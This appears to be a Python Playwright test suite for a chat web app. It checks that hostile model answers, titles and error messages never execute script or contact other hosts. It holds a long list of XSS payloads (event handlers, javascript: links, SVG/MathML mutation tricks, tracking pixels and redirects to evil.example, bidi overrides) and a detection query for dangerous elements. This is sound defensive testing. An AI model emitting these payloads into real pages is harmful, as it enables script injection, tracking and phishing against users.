"""What a model may say to attack its reader: none of it runs, loads anything, or leaves its message."""

import json
from collections.abc import Awaitable, Callable
from typing import Final
from urllib.parse import quote

from playwright.async_api import Browser, Page, Route, expect

from support.browser.chat_page import say, shown_answer, stored
from support.database.world import Person, World
from support.faults.stack import FaultStack

_RUN: Final = "window.hacked=1"
HOSTILE: Final = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mtext><table><mglyph><style><img src onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>OK</button></form>",
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java\tscript:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](vbscript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"<javascript:{_RUN}>",
    "![x](https://evil.example/pixel.png)",
    f"![x](javascript:{_RUN})",
    '![x](x"onerror="window.hacked=1)',
    '[x](https://a.example/"onmouseover="window.hacked=1)',
    '[x](https://a.example "title\\" onmouseover=window.hacked=1 x=\\"")',
    f'```html"onload="{_RUN}\n<script>{_RUN}</script>\n```',
    f"`<img src=x onerror={_RUN}>`",
    f"| <script>{_RUN}</script> | b |\n|---|---|\n| <img src=x onerror={_RUN}> | c |",
    f"</div></li></ol></main><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"<a href='https://a.example' onclick={_RUN} style='position:fixed;inset:0'>x</a>",
    f"<p id=messages class=live data-retry onclick={_RUN}>x</p>",
    f"\u202e<script>{_RUN}</script>\u202c",
    # SVG and MathML, whose rules for parsing differ from those around them: mutation XSS.
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text x=20 y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'></use></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></iframe></foreignObject></svg>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_RUN}></annotation-xml></math>",
    f"<math href=javascript:{_RUN}>CLICK</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<table><td><svg><desc><noscript></td></table><img src=x onerror={_RUN}>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<audio src=x onerror={_RUN}>",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "<plaintext>",
    # Links: other ways to write the schemes, references, autolinks, and text that is not what it seems.
    f"[x](javascript&colon;{_RUN})",
    f"[x](&#x6A;avascript:{_RUN})",
    f"[x](java&NewLine;script:{_RUN})",
    f"[x](\x01javascript:{_RUN})",
    f"[x](java\u200bscript:{_RUN})",
    f"[x][r]\n\n[r]: javascript:{_RUN}",
    f"[x](blob:https://evil.example/{_RUN})",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "<https://evil.example/\u202egnp.exe>",
    "https://evil.example/?q=<script>",
    "[https://bank.example](https://evil.example/)",
    '[x](https://a.example "<pre><script>window.hacked=1</script>")',
    "<data:text/html,<script>window.hacked=1</script>>",
    "<a href=https://evil.example/ ping=https://evil.example/ping target=_top>x</a>",
    # Images: loading one would inform another host of who reads what.
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    f"![x](data:image/svg+xml,%3Csvg%20onload={_RUN}%3E)",
    "[![x](https://evil.example/pixel.png)](https://evil.example/)",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<input type=image src=https://evil.example/x>",
    # Text that hides or turns around what comes after it.
    "\u202e" * 200 + "safe",
    "\u2066" * 100 + "never closed",
    "\u200b\u200c\u200d\ufeff" * 200 + "x",  # alone they are no answer
    "Z" + "\u0335\u0301\u0324" * 300,
    f"&#60;img src=x onerror={_RUN}&#62; &#x3c;script&#x3e;",
    f"~~~ <img src=x onerror={_RUN}>\ncode\n~~~",
    f"# <img src=x onerror={_RUN}>\n\n## [x](javascript:{_RUN})",
    f"| [x](javascript:{_RUN}) |\n|:-:|\n| ![x](https://evil.example/p.png) |",
    # What has rules of its own here: breaks, formulas, footnotes, tasks, bare addresses.
    f"<br onclick={_RUN}><br/onload={_RUN}><br><script>{_RUN}</script>",
    f"| a |\n|---|\n| x<br><img src=x onerror={_RUN}><br>y |",
    f"\\(\\text{{</mtext></math><img src=x onerror={_RUN}>}}\\)",
    f"$$\\text{{<script>{_RUN}</script>}} x<y$$",
    f"\\[\\href{{javascript:{_RUN}}}{{x}} \\unicode{{x3c}}script\\]",
    f"$$\n</code></pre><img src=x onerror={_RUN}>\n$$",
    f"$</math><svg onload={_RUN}>_x$",
    "\\(\\class{live}{x} \\cssId{messages}{y}\\) \\(\\style{position:fixed}{z}\\)",
    "\\(\\color{url(//evil.example)}{x}\\)",
    "\\(\\def\\a{\\a\\a}\\a \\includegraphics{https://evil.example/p.png}\\)",
    f"x[^1]\n\n[^1]: <img src=x onerror={_RUN}> [x](javascript:{_RUN})",
    f"x[^<b>]\n\n[^<b>]: javascript:{_RUN}",
    f"- [x] <img src=x onerror={_RUN}>",
    f'https://evil.example/"onmouseover="{_RUN}',
    f"https://evil.example/'><img/src=x/onerror={_RUN}>",
    "https://user:password@evil.example/\u202egnp.exe",
    f"![<img src=x onerror={_RUN}>](https://evil.example/pixel.png)",
    f'![x](https://evil.example/" onload="{_RUN})',
    "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|b\n" * 66,
    "\\(" + "\\sqrt{" * 190 + "}" * 190 + "\\)",
    # Much of everything.
    "<" * 2000,
    "[" * 2000 + "](x)",
    "> " * 500 + "deep",
    "- " * 500 + "deep",
    "*a_ " * 600,
    "`" * 1200 + "a" + "`" * 1199,
    "|" * 1000 + "\n" + "|-" * 500,
    "&amp;" * 500,
]
"""A model says each of these in an answer of its own."""

_FINDINGS: Final = """() => {
    const shown = [...document.querySelectorAll(".text")];
    const bad = "script,iframe,object,embed,img,svg,style,link,meta,base,form,input,button,video,audio,template," +
        "mglyph,annotation,annotation-xml,semantics,maction,mtext *";
    return {
        hacked: "hacked" in window,
        elements: shown.flatMap((each) => [...each.querySelectorAll(bad)])
            .filter((found) => !found.matches(".code > button.copy-code")).map((found) => found.outerHTML),
        handlers: shown.flatMap((each) => [...each.querySelectorAll("*")])
            .filter((found) => [...found.attributes].some(({ name }) => /^on|^style$|^id$|^data-/.test(name)))
            .map((found) => found.outerHTML),
        links: [...document.querySelectorAll(".markdown a[href]")]
            .map((link) => [new URL(link.href).protocol, link.rel]),
        messages: document.querySelectorAll("#messages > li.message").length,
        bidi: shown.map((each) => getComputedStyle(each).unicodeBidi),
    };
}"""


async def test_there_are_many_kinds() -> None:
    assert len(set(HOSTILE)) >= 40


async def check_harmless(page: Page, answers: int) -> None:
    """All of it is on the page, none of it has run, and every link is a plain one."""
    while await page.locator("[data-earlier]").count():
        await page.evaluate("document.querySelector('[data-earlier]')?.click()")
        await page.wait_for_timeout(20)
    for link in await page.locator(".markdown a:visible").all():
        await link.dispatch_event("mouseover")
    found = await page.evaluate(_FINDINGS)
    assert (found["hacked"], found["elements"], found["handlers"]) == (False, [], [])
    assert found["messages"] == 2 * answers
    assert {protocol for protocol, _ in found["links"]} <= {"https:", "http:", "mailto:"}
    assert {rel for _, rel in found["links"]} == {"noopener noreferrer nofollow"}
    assert set(found["bidi"]) <= {"isolate", "plaintext"}, "no text turns around what comes after it"


def watch_for_harm(page: Page, url: str) -> list[str]:
    """What the page will ask other hosts for, and what it will pop up."""
    foreign: list[str] = []
    page.on("request", lambda request: None if request.url.startswith(url) else foreign.append(request.url))
    page.on("dialog", lambda dialog: foreign.append(f"dialog: {dialog.message}"))
    page.on("popup", lambda popup: foreign.append(f"popup: {popup.url}"))
    return foreign


async def test_nothing_of_it_runs(page: Page, stack: FaultStack, world: World, person: Person) -> None:
    """Each while it is written, when it is complete, and after a reload."""
    foreign = watch_for_harm(page, stack.url)
    await page.goto("/")
    for number, text in enumerate(HOSTILE, start=1):
        await say(page, f"Hello [[simulate: text={quote(text, safe='')}]]")
        await expect(page.locator("li.assistant .cost")).to_have_count(number, timeout=30_000)
    said = [text for _, text in (await stored(world, person))[1::2]]
    assert said == HOSTILE, "the attacks must arrive as they are"
    await check_harmless(page, len(HOSTILE))
    await page.reload()
    await check_harmless(page, len(HOSTILE))
    assert foreign == []


def answering(body: str) -> Callable[[Route], Awaitable[None]]:
    """A server that refuses with these words."""
    return lambda route: route.fulfill(status=400, body=body)


async def test_titles_names_and_errors_are_as_harmless(
    page: Page, stack: FaultStack, world: World, person: Person
) -> None:
    foreign = watch_for_harm(page, stack.url)
    hostile = f"<img src=x onerror={_RUN}>"
    titles = [
        hostile,
        f"</title><script>{_RUN}</script>",
        "x" + "\u202e" * 40 + "x",
        f"'\"><svg onload={_RUN}>",
        "{{ 7 * 7 }}",
    ]
    await world.rows("UPDATE companies SET name = $1 WHERE id = $2", hostile, person.company_id)
    for title in titles:
        await page.goto("/")
        await say(page, f"{title} [[simulate: tokens=3]]")
        await shown_answer(page)
        await expect(page.locator("#title")).to_have_text(f"{title} [[simulate: tokens=3]]")
        await page.reload()
        assert await page.locator("#title").text_content() == f"{title} [[simulate: tokens=3]]"
    assert await page.locator("#conversations a").all_text_contents() == [
        f"{title} [[simulate: tokens=3]]" for title in reversed(titles)
    ]
    await expect(page.locator(".me")).to_contain_text(hostile)
    for code in (hostile, "constructor", "__proto__"):
        body = json.dumps({"detail": {"code": code, "message": hostile}})
        await page.route("**/v1/chat", answering(body), times=1)
        await say(page, "Hello")
        await expect(page.locator("#refused")).to_contain_text("The answer failed")
    refused = await page.goto("/c/01a217fa-2fdd-752b-b4db-387206776ccf")
    assert refused is not None
    assert refused.status == 404
    await expect(page.locator("main")).to_contain_text("You have no such conversation.")
    assert await page.evaluate("'hacked' in window") is False
    assert await page.locator("nav img, nav svg, main img, main svg, script:not([src])").count() == 0
    assert foreign == []


async def test_the_search_for_harm_can_find_some(page: Page) -> None:
    """The same search on a page into which harm was put by force."""
    await page.goto("/")
    await page.evaluate(
        "document.querySelector('#messages').insertAdjacentElement('beforeend', Object.assign("
        "document.createElement('li'), { className: 'text' })).append(document.createElement('script'))"
    )
    await page.evaluate("window.hacked = 1")
    found = await page.evaluate(_FINDINGS)
    assert found["hacked"]
    assert found["elements"] == ["<script></script>"]


async def test_an_injected_page_still_cannot_load_or_run_foreign_code(browser: Browser, stack: FaultStack) -> None:
    """The second fence: the policy of the page, with the first one gone."""
    context = await browser.new_context(base_url=stack.url)
    page = await context.new_page()
    await page.goto("/sign-in")
    await page.evaluate(
        """() => {
            window.blocked = [];
            addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
            const attempt = (work) => { try { work(); } catch (error) { blocked.push(error.name); } };
            // Later, for what the debugger itself evaluates is let through.
            setTimeout(() => {
                attempt(() => { document.querySelector("#status").innerHTML = "<b>x</b>"; });
                attempt(() => { eval("window.hacked = 1"); });
                attempt(() => { trustedTypes.createPolicy("other", {}); });
                const inline = document.createElement("script");
                attempt(() => { inline.append("window.hacked = 1"); document.body.append(inline); });
                const image = document.createElement("img");
                image.src = "https://evil.example/pixel.png";
                fetch("https://evil.example/").catch((error) => blocked.push(error.name));
            });
        }"""
    )
    expected = {"require-trusted-types-for", "trusted-types", "connect-src", "img-src"}
    await page.wait_for_function("expected => expected.every((each) => blocked.includes(each))", arg=sorted(expected))
    assert not await page.evaluate("'hacked' in window")
    await context.close()
